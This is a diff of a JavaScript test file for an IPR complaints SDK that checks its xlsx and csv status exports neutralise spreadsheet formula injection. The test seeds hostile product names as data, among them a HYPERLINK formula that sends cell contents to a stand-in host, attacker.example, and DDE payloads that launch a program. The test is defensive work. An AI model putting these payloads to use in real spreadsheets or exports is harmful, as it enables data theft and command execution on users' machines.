@@ -185,43 +185,61 @@ describe('spreadsheets the SDK writes neutralise formula injection', () => {
     }
   });
 
-  test('client.complaints.exportStatus (xlsx, csv): a supplier statement starting with = is written inert', async (t) => {
+  test('client.complaints.exportStatus (xlsx, csv): product names a seller wrote as formulas are written inert', async (t) => {
     if (typeof client.complaints.exportStatus !== 'function') {
       t.skip('client.complaints.exportStatus has not landed yet (issue 9, bulk status export)');
       return;
     }
-    // A complaint whose supplier answers with formula-looking text.
-    const hostile = ['=HYPERLINK("http://attacker.example/?d="&A1,"open")', '+cmd|\' /C calc\'!A0', '-1+cmd|\' /C calc\'!A0', '@SUM(1)', '\t=1+1', '\r=1+1'];
+    // Product names are the sellers' text: the one free text in a status report. Put hostile
+    // ones in the catalogue (straight into the server's database) and file a complaint on them.
+    const hostile = ['=HYPERLINK("http://attacker.example/?d="&A1,"open")', "+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", '@SUM(1)', '\t=1+1 attacker.example', '\r=1+1 attacker.example'];
+    const ids = hostile.map((_, i) => `prod_hostile_${i}`);
+    const urls = hostile.map((_, i) => link(990_001 + i));
+    await server.db.query(
+      `insert into products (id, url, name, supplier_id, category, listed)
+       select x.id, x.url, x.name, 'acc_supplier_a', 'Hostile', true from unnest($1::text[], $2::text[], $3::text[]) as x(id, url, name)
+       on conflict (id) do nothing`,
+      [ids, urls, hostile],
+    );
     const made = await client.complaints.create({
-      type: 'copyright_infringement', productLinks: [link(331)], description: '=1+1 in the description',
-      contact: { name: '=Lin Mei', email: 'lin.mei@aurora-lighting.example', phone: '+86 755 2345 6789' },
+      type: 'copyright_infringement', productLinks: urls, description: 'Hostile product names.',
+      contact: { name: 'Lin Mei', email: 'lin.mei@aurora-lighting.example', phone: '+86 755 2345 6789' },
       discloseContactToSupplier: false, isIprHolder: true, holder: null, evidence: [{ id: 'ev_seed_a_certificate' }],
       declaration: { goodFaith: true, accurate: true, authorised: true, version: DECLARATION_VERSION },
     }, { idempotencyKey: `hostile-export-${Date.now()}` });
     assert.ok(made.data, JSON.stringify(made.error));
     const platform = createIprClient({ baseUrl: server.url, token: TOKENS.platform, retry: false });
-    assert.ok((await platform.complaints.forward(made.data.id)).data);
-    const supplier = createIprClient({ baseUrl: server.url, token: TOKENS.supplierA, retry: false });
-    const product = made.data.products[0];
-    const answered = await supplier.complaints.respond(made.data.id, { products: [{ productId: product.productId ?? product.id, response: 'not_infringing', statement: hostile.join(' ') }] });
-    assert.ok(answered.data, JSON.stringify(answered.error));
-    for (const format of ['xlsx', 'csv']) {
-      const out = await client.complaints.exportStatus({ format });
-      assert.ok(out.data, JSON.stringify(out.error));
-      assert.ok(out.data.rows >= 1);
-      const bytes = new Uint8Array(await out.data.blob.arrayBuffer());
-      const cells = format === 'xlsx' ? cellsOf(bytes) : cellsOf(new TextDecoder().decode(bytes).replace(/^\ufeff/, ''), 'string');
-      assert.ok(cells.some((c) => typeof c.v === 'string' && c.v.includes('attacker.example')), `${format}: the statement is in the export`);
-      for (const c of cells) {
-        assert.equal(c.f, undefined, `${format} ${c.ref} is not a formula`);
-        if (typeof c.v === 'string') assert.doesNotMatch(c.v, FORMULA_START, `${format} ${c.ref}: ${JSON.stringify(c.v)}`);
-      }
-      if (format === 'csv') {
-        // Every CSV field, as a spreadsheet program would see it, starts inert.
-        const text = new TextDecoder().decode(bytes).replace(/^\ufeff/, '');
-        for (const field of text.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)|\r?\n/)) {
-          const value = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
-          assert.doesNotMatch(value, FORMULA_START, `csv field ${JSON.stringify(value)}`);
+    for (const [who, c] of [['complainant', client], ['platform', platform]]) {
+      for (const format of ['xlsx', 'csv']) {
+        for (const locale of ['en', 'zh-CN']) {
+          const out = await c.complaints.exportStatus({ format, locale });
+          assert.ok(out.data, `${who} ${format}: ${JSON.stringify(out.error)}`);
+          assert.ok(out.data.rows >= hostile.length);
+          const bytes = new Uint8Array(await out.data.blob.arrayBuffer());
+          const text = format === 'csv' ? new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) : '';
+          if (format === 'csv') assert.ok(text.startsWith('\ufeff'), 'CSV is UTF-8 with BOM');
+          const cells = format === 'xlsx' ? cellsOf(bytes) : cellsOf(text.replace(/^\ufeff/, ''), 'string');
+          const named = cells.filter((c) => typeof c.v === 'string' && /attacker\.example|cmd\||SUM\(1\)/.test(c.v));
+          assert.ok(named.length >= hostile.length, `${who} ${format} ${locale}: the hostile names are in the export (${named.length})`);
+          for (const c of cells) {
+            assert.equal(c.f, undefined, `${who} ${format} ${c.ref} is not a formula`);
+            if (typeof c.v === 'string') assert.doesNotMatch(c.v, FORMULA_START, `${who} ${format} ${c.ref}: ${JSON.stringify(c.v)}`);
+          }
+          if (format === 'csv') {
+            // Every CSV field, as a spreadsheet program reads it, starts inert.
+            const body = text.replace(/^\ufeff/, '');
+            const fields = [];
+            let field = '', quoted = false;
+            for (let i = 0; i < body.length; i++) {
+              const ch = body[i];
+              if (quoted) {
+                if (ch === '"' && body[i + 1] === '"') { field += '"'; i++; } else if (ch === '"') quoted = false; else field += ch;
+              } else if (ch === '"' && field === '') quoted = true;
+              else if (ch === ',' || ch === '\n') { fields.push(field.replace(/\r$/, '')); field = ''; } else field += ch;
+            }
+            if (field) fields.push(field);
+            for (const f of fields) assert.doesNotMatch(f, FORMULA_START, `${who} csv ${locale} field ${JSON.stringify(f)}`);
+          }
         }
       }
     }
